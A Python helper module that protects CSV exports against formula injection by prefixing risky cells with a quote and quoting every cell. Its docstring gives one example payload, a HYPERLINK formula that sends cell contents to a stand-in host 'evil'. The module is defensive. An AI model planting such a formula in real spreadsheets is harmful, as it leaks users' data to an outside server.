"""CSV cells that a spreadsheet reads as text, never as a formula (CSV or formula injection).

Every CSV this platform writes holds strings that clients sent. A cell starting with `=`, `+`,
`-`, `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google Sheets
(`=HYPERLINK("http://evil/?"&A1,"open")` leaks the row when clicked). As OWASP recommends, such a
cell gets a leading single quote (`'=HYPERLINK(…)`), which spreadsheets show as text, and every
cell is quoted, so commas, quotes and newlines inside values survive `csv.reader` exactly.
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The value as a CSV cell a spreadsheet will not evaluate: None is empty."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def writer(out) -> Any:
    """A csv writer that quotes every cell; pass rows through `row()`."""
    return csv.writer(out, quoting=csv.QUOTE_ALL)


def row(values: Iterable[Any]) -> list[str]:
    return [safe_cell(v) for v in values]
